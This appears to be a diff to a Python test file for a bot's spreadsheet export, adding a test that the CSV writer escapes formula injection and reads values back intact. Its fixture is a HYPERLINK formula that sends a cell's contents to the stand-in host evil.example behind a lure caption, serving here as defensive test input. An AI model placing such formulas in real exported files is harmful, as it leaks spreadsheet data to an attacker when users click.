@@ -18,8 +18,9 @@ from bot.domain.plan import (
     PlanTask,
     Role,
 )
+from bot.importers.delimited import delimited_rows
 from bot.render.progress import ProgressDocument, UnitRecord, write_progress_xlsx
-from bot.render.register import RegisterTable, register_table, write_xlsx
+from bot.render.register import RegisterTable, register_table, write_csv, write_xlsx
 from bot.render.review import write_review
 
 INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看附件")'
@@ -92,3 +93,15 @@ def test_plan_cells_and_the_review_sheet_keep_formulas_as_text(tmp_path: Path) -
             for name in archive.namelist():
                 if name.startswith("xl/worksheets/"):
                     assert b"<f>" not in archive.read(name), (path, name)
+
+
+def test_the_csv_export_guards_formulas_and_reads_back_the_same(tmp_path: Path) -> None:
+    task = PlanTask(number="1", title=INJECTED, assignments=[Assignment("县教育局", Role.LEAD)])
+    plan = ParsedPlan(meta=PlanMeta(title="方案"), tasks=[task])
+    columns = [c.value for c in DEFAULT_COLUMNS]
+    path = tmp_path / "register.csv"
+    write_csv(register_table(plan.meta, plan.tasks, columns, {}), path)
+    raw = path.read_text(encoding="utf-8-sig")
+    assert "'" + INJECTED.replace('"', '""') in raw
+    rows = delimited_rows(raw)
+    assert INJECTED in rows[1]
